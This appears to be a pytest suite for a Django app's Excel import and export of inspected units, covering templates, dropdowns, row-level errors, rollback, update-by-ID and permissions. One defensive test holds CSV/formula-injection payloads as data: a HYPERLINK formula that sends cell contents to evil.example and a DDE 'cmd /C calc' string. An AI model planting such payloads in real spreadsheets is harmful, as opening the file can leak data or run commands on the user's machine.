"""Excel import and export of units, end to end: real .xlsx files built with openpyxl, uploaded
through the test client to the real pages, the job run (eager Celery) and the database checked."""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal

import pytest
from django import forms
from django.contrib.contenttypes.models import ContentType
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import resolve, reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from xuncha.core import dictionaries
from xuncha.core.excel import DATA_SHEET, DICT_SHEET, HELP_SHEET, ID_HEADER
from xuncha.core.models import ChangeLog, DictItem, DictType, Job, StoredFile
from xuncha.core.testing.world import make_unit
from xuncha.org.models import Unit
from xuncha.org.resources import unit_resource

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HEADERS = [ID_HEADER] + [c.header for c in unit_resource.importer.columns]
with translation.override("zh-hans"):
    REQUIRED = str(forms.Field.default_error_messages["required"])  # Django's own wording


# --- Helpers ------------------------------------------------------------------------------------


def unit_row(name="青阳县审计局", *, pk=None, region="青阳县", category="机关部门", level="乡科级",
             authority="县管", **extra) -> dict:
    row = {ID_HEADER: pk, "单位名称": name, "所属区域": region, "单位类别": category, "层级": level,
           "管理权限": authority}
    row.update(extra)
    return row


def xlsx(rows: list[dict | None], headers: list[str] = HEADERS) -> bytes:
    """A workbook in the template's layout; None is a blank row (it keeps its Excel row number)."""
    wb = Workbook()
    ws = wb.active
    ws.title = DATA_SHEET
    ws.append(headers)
    for row in rows:
        ws.append([None] * len(headers) if row is None else [row.get(h) for h in headers])
    return save(wb)


def save(wb) -> bytes:
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def post_import(client, capture, data: bytes, *, name="被巡察对象.xlsx", update=False, url="org:unit_import"):
    """POST the file like the page does; the job runs when the request's transaction commits."""
    form = {"file": SimpleUploadedFile(name, data, content_type=XLSX)}
    if update:
        form["update_existing"] = "on"
    with capture(execute=True):
        return client.post(reverse(url), form)


def job_of(response) -> Job:
    assert response.status_code == 302, response.content.decode()[:2000]
    match = resolve(response.url)
    assert match.url_name == "job_detail"
    return Job.objects.get(pk=match.kwargs["pk"])


def job_page(client, job) -> str:
    response = client.get(reverse("core:job_detail", args=[job.pk]))
    assert response.status_code == 200
    return response.content.decode()


def workbook_of(response):
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    return load_workbook(io.BytesIO(response.content))


def data_rows(wb) -> list[dict]:
    ws = wb[DATA_SHEET]
    header = [c.value for c in ws[1]]
    return [dict(zip(header, (c.value for c in row), strict=False)) for row in ws.iter_rows(min_row=2)]


def column_letter(wb, header: str) -> str:
    for cell in wb[DATA_SHEET][1]:
        if (cell.value or "").rstrip("*") == header:
            return cell.column_letter
    raise AssertionError(f"no column {header}")


def dropdown_items(wb, header: str) -> list[str]:
    """The items of the list validation on `header`'s column, read from the sheet it points to."""
    letter = column_letter(wb, header)
    ws = wb[DATA_SHEET]
    for validation in ws.data_validations.dataValidation:
        if validation.type == "list" and any(f"{letter}2" in str(r) for r in validation.sqref.ranges):
            sheet, cells = validation.formula1.lstrip("=").rsplit("!", 1)
            return [c.value for row in wb[sheet.strip("'")][cells.replace("$", "")] for c in row]
    raise AssertionError(f"no dropdown on {header}")


@pytest.fixture(autouse=True)
def _own_media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path  # uploads of one test never meet another's


@pytest.fixture
def office_a(world, login):
    return login(world.users["office_a"])


# --- Template -----------------------------------------------------------------------------------


class TestTemplate:
    def get(self, client):
        return workbook_of(client.get(reverse("org:unit_import_template")))

    def test_hidden_id_column_headers_and_help(self, world, office_a):
        wb = self.get(office_a)
        ws = wb[DATA_SHEET]
        assert wb.sheetnames[0] == DATA_SHEET
        assert ws["A1"].value == ID_HEADER
        assert ws.column_dimensions["A"].hidden
        headers = [c.value for c in ws[1]][1:]
        assert headers[0] == "单位名称*" and "所属区域*" in headers and "简称" in headers
        assert [h.rstrip("*") for h in headers] == [c.header for c in unit_resource.importer.columns]
        assert ws.max_row == 1  # no sample rows that would be imported by mistake
        help_text = "\n".join(str(c.value) for row in wb[HELP_SHEET].iter_rows() for c in row if c.value)
        assert "填写说明" in help_text and "整体操作" in help_text
        assert "机关部门" in help_text  # the help lists each dictionary's items
        assert wb[DICT_SHEET].sheet_state == "hidden"

    def test_dropdowns_come_from_the_dictionaries(self, world, office_a):
        category = DictType.objects.get(code="unit_category")
        DictItem.objects.create(dict_type=category, value="new_kind", label="新设类别", sort=99)
        DictItem.objects.filter(dict_type=category, value="other").update(is_active=False)
        dictionaries.invalidate()
        wb = self.get(office_a)
        items = dropdown_items(wb, "单位类别")
        assert items == [label for _, label in dictionaries.choices("unit_category")]
        assert "机关部门" in items and "新设类别" in items and "其他" not in items
        assert dropdown_items(wb, "管理权限") == ["市管", "县管"]
        assert dropdown_items(wb, "职级不高权力较大") == ["是", "否"]

    def test_dropdown_formula_is_plain_sheet_reference(self, world, office_a):
        # Excel writes <formula1>'Sheet'!$A$1:$A$9</formula1>, with no "=": anything else risks a
        # "we found a problem with some content" repair prompt.
        ws = self.get(office_a)[DATA_SHEET]
        formulas = [v.formula1 for v in ws.data_validations.dataValidation]
        assert formulas and all(re.fullmatch(rf"'{DICT_SHEET}'!\$[A-Z]+\$2:\$[A-Z]+\$\d+", f) for f in formulas)

    def test_region_dropdown_lists_only_regions_in_scope(self, world, login):
        assert dropdown_items(self.get(login(world.users["office_a"])), "所属区域") == ["青阳县"]
        city = dropdown_items(self.get(login(world.users["city_office"])), "所属区域")
        assert set(city) == {"江城市", "青阳县", "桐溪县"}

    def test_text_columns_are_formatted_as_text(self, world, office_a):
        # Typed long numbers (credit codes, ID numbers) must not become 1.2E+17 in Excel.
        wb = self.get(office_a)
        assert wb[DATA_SHEET].column_dimensions[column_letter(wb, "统一社会信用代码")].number_format == "@"

    def test_filled_template_imports(self, world, office_a, django_capture_on_commit_callbacks):
        wb = self.get(office_a)
        ws = wb[DATA_SHEET]
        header = [(c.value or "").rstrip("*") for c in ws[1]]
        row = unit_row("青阳县统计局", **{"社会关注度": "低", "职级不高权力较大": "否"})
        ws.append([row.get(h) for h in header])
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, save(wb)))
        assert job.status == Job.Status.SUCCEEDED, job.message
        assert Unit.objects.filter(name="青阳县统计局", region=world.county_a, social_attention="low").exists()

    def test_needs_import_permission(self, world, login):
        assert login(world.users["leader_a"]).get(reverse("org:unit_import_template")).status_code == 403


# --- Import of new units ------------------------------------------------------------------------


class TestImportNew:
    def test_units_created_logged_and_reported(self, world, office_a, django_capture_on_commit_callbacks):
        rows = [
            unit_row("青阳县审计局", **{"简称": "审计局", "统一社会信用代码": "11340000MB1234567X",
                                        "所属系统": "财政金融系统", "社会关注度": "高",
                                        "职级不高权力较大": "是", "专项资金规模（万元）": 1200.5,
                                        "上级单位": "青阳县教育局", "地址": "青阳县人民路 1 号"}),
            unit_row("青阳县第一中学", category="学校"),
            unit_row("青阳县人民医院", category="医院", **{"专项资金规模（万元）": "3,000"}),
        ]
        before = ChangeLog.objects.count()
        response = post_import(office_a, django_capture_on_commit_callbacks, xlsx(rows))
        job = job_of(response)
        assert job.status == Job.Status.SUCCEEDED, (job.message, job.result)
        assert job.message == "导入成功：共 3 条，新增 3 条，更新 0 条。"
        assert job.total == 3
        page = job_page(office_a, job)
        assert "导入成功" in page and "共 3 条，新增 3 条" in page

        audit = Unit.objects.get(name="青阳县审计局")
        assert audit.region == world.county_a and audit.category == "organ" and audit.level == "section"
        assert audit.managing_authority == "county" and audit.system == "finance"
        assert audit.social_attention == "high" and audit.low_rank_high_power is True
        assert audit.special_fund_scale == Decimal("1200.5") and audit.parent == world.unit_a
        assert audit.credit_code == "11340000MB1234567X" and audit.short_name == "审计局"
        assert Unit.objects.get(name="青阳县人民医院").special_fund_scale == Decimal("3000")
        assert Unit.objects.get(name="青阳县第一中学").category == "school"

        logs = ChangeLog.objects.order_by("seq")[before:]
        unit_type = ContentType.objects.get_for_model(Unit)
        created = {log.object_repr for log in logs if log.content_type == unit_type and log.action == "create"}
        assert created == {"青阳县审计局", "青阳县第一中学", "青阳县人民医院"}
        assert all(log.username == "office_a" for log in logs)

    def test_the_upload_is_kept(self, world, office_a, django_capture_on_commit_callbacks):
        data = xlsx([unit_row()])
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, data))
        import hashlib

        assert job.input_file.sha256 == hashlib.sha256(data).hexdigest()
        assert job.input_file.original_name == "被巡察对象.xlsx"
        assert job.input_file.created_by == world.users["office_a"]

    def test_blank_rows_keep_excel_row_numbers(self, world, office_a, django_capture_on_commit_callbacks):
        data = xlsx([unit_row("甲"), None, None, unit_row("", category="没有这类")])
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, data))
        assert job.status == Job.Status.FAILED
        assert job.message == "导入失败，未写入任何数据。共 2 条，其中 1 行有误："
        assert all(e.startswith("第 5 行：") for e in job.result["errors"]), job.result
        assert not Unit.objects.filter(name="甲").exists()

    def test_rows_past_a_wrong_dimension_are_not_lost(self, world, office_a, django_capture_on_commit_callbacks):
        # Files written by other tools may declare a wrong <dimension>; openpyxl's read-only mode would
        # then silently stop reading there, and an import must never drop rows without a word.
        data = xlsx([unit_row(f"单位{i}") for i in range(1, 6)])
        data = rewrite_member(data, "xl/worksheets/sheet1.xml",
                              lambda xml: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:B2"/>', xml))
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, data))
        assert job.message == "导入成功：共 5 条，新增 5 条，更新 0 条。", job.message
        assert Unit.objects.filter(name__startswith="单位").count() == 5

    def test_formula_text_round_trip(self, world, office_a, django_capture_on_commit_callbacks):
        data = xlsx([unit_row("'=1+2")])
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, data))
        assert job.status == Job.Status.SUCCEEDED, job.result
        assert Unit.objects.filter(name="=1+2").exists()


def rewrite_member(data: bytes, member: str, change) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            target.writestr(info.filename, change(content) if info.filename == member else content)
    return out.getvalue()


# --- All or nothing -----------------------------------------------------------------------------


class TestAllOrNothing:
    def test_bad_rows_are_listed_and_nothing_is_written(self, world, office_a, django_capture_on_commit_callbacks):
        rows = [
            unit_row("好单位一"),                                     # row 2
            unit_row(None),                                          # row 3: no name
            unit_row("好单位二"),                                     # row 4
            unit_row("坏单位", category="外星机构", region="桐溪县"),   # row 5: unknown value, other county
            unit_row("好单位三"),                                     # row 6
        ]
        units, logs = Unit.objects.count(), ChangeLog.objects.count()
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, xlsx(rows)))
        assert job.status == Job.Status.FAILED
        assert job.message == "导入失败，未写入任何数据。共 5 条，其中 2 行有误："
        errors = job.result["errors"]
        assert errors[0] == f"第 3 行：「单位名称」：{REQUIRED}"
        assert any(e.startswith("第 5 行：「单位类别」：“外星机构”不是可选的值") and "机关部门" in e for e in errors)
        assert "第 5 行：「所属区域」：区域“桐溪县”不存在或不在您的授权范围内" in errors
        assert len(errors) == 3
        assert Unit.objects.count() == units and ChangeLog.objects.count() == logs
        page = job_page(office_a, job)
        assert "共 5 条，其中 2 行有误" in page and f"第 3 行：「单位名称」：{REQUIRED}" in page

    def test_every_kind_of_cell_error_names_its_column(self, world, office_a, django_capture_on_commit_callbacks):
        rows = [unit_row("甲", **{"职级不高权力较大": "也许"}),
                unit_row("乙", **{"专项资金规模（万元）": "很多"}),
                unit_row("丙", **{"专项资金规模（万元）": -5}),
                unit_row("丁", **{"上级单位": "桐溪县教育局"}),
                unit_row("戊", **{"统一社会信用代码": "123"})]
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, xlsx(rows)))
        errors = job.result["errors"]
        assert errors == [
            "第 2 行：「职级不高权力较大」：“也许”应填写“是”或“否”",
            "第 3 行：「专项资金规模（万元）」：“很多”不是有效的数字",
            "第 4 行：「专项资金规模（万元）」：专项资金规模不能为负数。",
            "第 5 行：「上级单位」：单位“桐溪县教育局”不存在或不在您的授权范围内",
            "第 6 行：「统一社会信用代码」：统一社会信用代码应为 18 位字母或数字。",
        ]
        assert job.message == "导入失败，未写入任何数据。共 5 条，其中 5 行有误："
        assert not Unit.objects.filter(name__in=["甲", "乙", "丙", "丁", "戊"]).exists()

    def test_a_failure_while_writing_rolls_back_every_row(self, world, office_a, monkeypatch,
                                                          django_capture_on_commit_callbacks):
        from django.core.exceptions import ValidationError

        real_create, calls = unit_resource.create, []

        def create(*, actor, data):
            calls.append(data["name"])
            if len(calls) == 3:
                raise ValidationError({"name": "同名单位已存在。"})
            return real_create(actor=actor, data=data)

        monkeypatch.setattr(unit_resource, "create", create)
        units, logs = Unit.objects.count(), ChangeLog.objects.count()
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks,
                                 xlsx([unit_row(f"写入{i}") for i in range(4)])))
        assert calls == ["写入0", "写入1", "写入2"]
        assert job.status == Job.Status.FAILED
        assert job.message == "导入失败，未写入任何数据。共 4 条，其中 1 行有误："
        assert job.result["errors"] == ["第 4 行：「单位名称」：同名单位已存在。"]
        assert Unit.objects.count() == units and ChangeLog.objects.count() == logs

    def test_an_unexpected_error_fails_the_job_and_writes_nothing(self, world, office_a, monkeypatch,
                                                                  django_capture_on_commit_callbacks):
        real_create, calls = unit_resource.create, []

        def create(*, actor, data):
            calls.append(1)
            if len(calls) == 2:
                raise RuntimeError("disk full")
            return real_create(actor=actor, data=data)

        monkeypatch.setattr(unit_resource, "create", create)
        units = Unit.objects.count()
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks,
                                 xlsx([unit_row("意外一"), unit_row("意外二")])))
        assert job.status == Job.Status.FAILED and job.finished_at is not None
        assert job.message.startswith("导入失败（系统错误），未写入任何数据")
        assert Unit.objects.count() == units

    def test_a_job_runs_only_once(self, world, office_a, django_capture_on_commit_callbacks):
        # A broker may deliver a task twice; a second run must not import the rows again.
        from xuncha.core.tasks import run_import_job

        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, xlsx([unit_row("只导一次")])))
        run_import_job(job.pk)
        assert Unit.objects.filter(name="只导一次").count() == 1
        job.refresh_from_db()
        assert job.status == Job.Status.SUCCEEDED


# --- Update or create ---------------------------------------------------------------------------


class TestUpdateOrCreate:
    def export(self, client, query=""):
        return workbook_of(client.get(reverse("org:unit_export") + query))

    def test_exported_workbook_edited_and_imported_back(self, world, office_a, django_capture_on_commit_callbacks):
        other = make_unit("青阳县财政局", world.county_a, special_fund_scale=Decimal("88.5"),
                          low_rank_high_power=True)
        wb = self.export(office_a)
        ws = wb[DATA_SHEET]
        assert ws.column_dimensions["A"].hidden
        name_col = column_letter(wb, "单位名称")
        ids = {ws[f"A{r}"].value: r for r in range(2, ws.max_row + 1)}
        assert set(ids) == {world.unit_a.pk, other.pk}
        ws[f"{name_col}{ids[world.unit_a.pk]}"] = "青阳县教育和体育局"
        ws.append([None, "青阳县新单位", None, None, "青阳县", None, "机关部门", "乡科级", "县管"])
        units, logs = Unit.objects.count(), ChangeLog.objects.count()

        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, save(wb), update=True))
        assert job.message == "导入成功：共 3 条，新增 1 条，更新 2 条。", (job.message, job.result)
        assert Unit.objects.count() == units + 1
        world.unit_a.refresh_from_db()
        assert world.unit_a.name == "青阳县教育和体育局"
        other.refresh_from_db()  # the unchanged row keeps every value through the round trip
        assert other.special_fund_scale == Decimal("88.5") and other.low_rank_high_power is True
        assert other.system == "education" and other.social_attention == "medium"
        update = ChangeLog.objects.filter(action="update", object_id=str(world.unit_a.pk)).get()
        assert update.before["name"] == "青阳县教育局" and update.after["name"] == "青阳县教育和体育局"
        assert ChangeLog.objects.count() == logs + 3

    def test_id_outside_scope_is_a_row_error(self, world, office_a, django_capture_on_commit_callbacks):
        rows = [unit_row("改名甲", pk=world.unit_a.pk), unit_row("偷改桐溪", pk=world.unit_b.pk)]
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, xlsx(rows), update=True))
        assert job.status == Job.Status.FAILED
        assert job.result["errors"] == [f"第 3 行：「编号」：编号为 {world.unit_b.pk} 的记录不存在或您无权修改。"]
        world.unit_a.refresh_from_db()
        world.unit_b.refresh_from_db()
        assert world.unit_a.name == "青阳县教育局" and world.unit_b.name == "桐溪县教育局"

    def test_unknown_and_malformed_ids(self, world, office_a, django_capture_on_commit_callbacks):
        rows = [unit_row("甲", pk=999999), unit_row("乙", pk="abc"), unit_row("丙", pk=1.5)]
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, xlsx(rows), update=True))
        assert job.result["errors"] == [
            "第 2 行：「编号」：编号为 999999 的记录不存在或您无权修改。",
            "第 3 行：「编号」：“abc”不是有效的编号。",
            "第 4 行：「编号」：“1.5”不是有效的编号。",
        ]

    def test_duplicate_id_is_an_error(self, world, office_a, django_capture_on_commit_callbacks):
        rows = [unit_row("甲", pk=world.unit_a.pk), unit_row("乙"), unit_row("丙", pk=str(world.unit_a.pk))]
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, xlsx(rows), update=True))
        assert job.result["errors"] == [f"第 4 行：「编号」：编号 {world.unit_a.pk} 与第 2 行重复。"]
        assert job.message == "导入失败，未写入任何数据。共 3 条，其中 1 行有误："
        world.unit_a.refresh_from_db()
        assert world.unit_a.name == "青阳县教育局" and not Unit.objects.filter(name="乙").exists()

    def test_ids_without_the_update_option_are_refused(self, world, office_a, django_capture_on_commit_callbacks):
        # Re-importing an export without ticking the option would otherwise duplicate every record.
        units = Unit.objects.count()
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, save(self.export(office_a))))
        assert job.status == Job.Status.FAILED
        assert job.result["errors"] == [
            "第 2 行：「编号」：填有编号，但未勾选“按编号更新已有记录”；新增记录请清空编号。"]
        assert Unit.objects.count() == units

    def test_update_needs_every_column(self, world, office_a, django_capture_on_commit_callbacks):
        # A column left out of the file would otherwise blank that field on every updated record.
        headers = [h for h in HEADERS if h != "备注"]
        response = post_import(office_a, django_capture_on_commit_callbacks,
                               xlsx([unit_row("甲", pk=world.unit_a.pk)], headers), update=True)
        assert response.status_code == 400
        assert "缺少列：「备注」" in response.content.decode()
        world.unit_a.refresh_from_db()
        assert world.unit_a.name == "青阳县教育局"

    def test_optional_columns_may_be_left_out_for_new_rows(self, world, office_a, django_capture_on_commit_callbacks):
        headers = ["单位名称", "所属区域", "单位类别", "层级", "管理权限"]
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, xlsx([unit_row("精简列")], headers)))
        assert job.status == Job.Status.SUCCEEDED, job.result
        assert Unit.objects.filter(name="精简列").exists()


# --- Export -------------------------------------------------------------------------------------


class TestExport:
    def test_formula_injection_is_neutralised(self, world, office_a, django_capture_on_commit_callbacks):
        hostile = make_unit('=HYPERLINK("http://evil.example/?"&A1,"点我")', world.county_a,
                            remarks="+cmd|' /C calc'!A0", address="@SUM(1+1)")
        wb = workbook_of(office_a.get(reverse("org:unit_export")))
        row = next(r for r in data_rows(wb) if r[ID_HEADER] == hostile.pk)
        assert row["单位名称"] == "'" + hostile.name
        assert row["备注"].startswith("'+") and row["地址"].startswith("'@")
        ws = wb[DATA_SHEET]
        assert all(c.data_type != "f" for r in ws.iter_rows() for c in r)
        # ...and an export imported back leaves the names as they were.
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, save(wb), update=True))
        assert job.status == Job.Status.SUCCEEDED, job.result
        hostile.refresh_from_db()
        assert hostile.name.startswith("=HYPERLINK") and hostile.remarks.startswith("+cmd")

    def test_export_respects_filters(self, world, office_a):
        soe = make_unit("青阳县城投公司", world.county_a, category="soe")
        names = {r["单位名称"] for r in data_rows(workbook_of(office_a.get(reverse("org:unit_export") + "?category=organ")))}
        assert "青阳县教育局" in names and soe.name not in names
        names = {r["单位名称"] for r in data_rows(workbook_of(office_a.get(reverse("org:unit_export") + "?q=城投")))}
        assert names == {soe.name}

    def test_export_respects_scope(self, world, login):
        names = {r["单位名称"] for r in data_rows(workbook_of(login(world.users["office_a"]).get(
            reverse("org:unit_export"))))}
        assert names == {"青阳县教育局"}
        names = {r["单位名称"] for r in data_rows(workbook_of(login(world.users["leader_a"]).get(
            reverse("org:unit_export"))))}
        assert names == {"青阳县教育局"}
        # another county chosen in the filter gives nothing, not that county's units
        response = login(world.users["office_a"]).get(reverse("org:unit_export") + f"?region={world.county_b.pk}")
        assert response.status_code == 200 and data_rows(workbook_of(response)) == []

    def test_export_values_in_the_import_layout(self, world, office_a):
        wb = workbook_of(office_a.get(reverse("org:unit_export")))
        assert [c.value for c in wb[DATA_SHEET][1]] == HEADERS
        row = data_rows(wb)[0]
        assert row["所属区域"] == "青阳县" and row["单位类别"] == "机关部门" and row["职级不高权力较大"] == "否"

    @pytest.mark.parametrize("who", ["liaison_a", "nobody"])
    def test_export_needs_permission(self, world, login, who):
        assert login(world.users[who]).get(reverse("org:unit_export")).status_code == 403

    def test_export_needs_login(self, world, client):
        response = client.get(reverse("org:unit_export"))
        assert response.status_code == 302 and "login" in response.url


# --- Permissions of the import page -------------------------------------------------------------


class TestImportPermissions:
    def test_read_only_leader_gets_403(self, world, login, django_capture_on_commit_callbacks):
        client = login(world.users["leader_a"])
        assert client.get(reverse("org:unit_import")).status_code == 403
        response = post_import(client, django_capture_on_commit_callbacks, xlsx([unit_row("越权单位")]))
        assert response.status_code == 403
        assert not Unit.objects.filter(name="越权单位").exists() and not Job.objects.exists()
        assert not StoredFile.objects.exists()

    def test_anonymous_is_sent_to_login(self, world, client, django_capture_on_commit_callbacks):
        response = post_import(client, django_capture_on_commit_callbacks, xlsx([unit_row("匿名单位")]))
        assert response.status_code == 302 and "login" in response.url
        assert not Unit.objects.filter(name="匿名单位").exists() and not Job.objects.exists()

    def test_a_job_is_seen_only_by_its_owner(self, world, login, office_a, django_capture_on_commit_callbacks):
        job = job_of(post_import(office_a, django_capture_on_commit_callbacks, xlsx([unit_row("私有")])))
        other = login(world.users["office_b"])
        assert other.get(reverse("core:job_detail", args=[job.pk])).status_code == 404

    def test_the_import_page_renders(self, world, office_a):
        page = office_a.get(reverse("org:unit_import")).content.decode()
        assert "按编号更新已有记录" in page and reverse("org:unit_import_template") in page
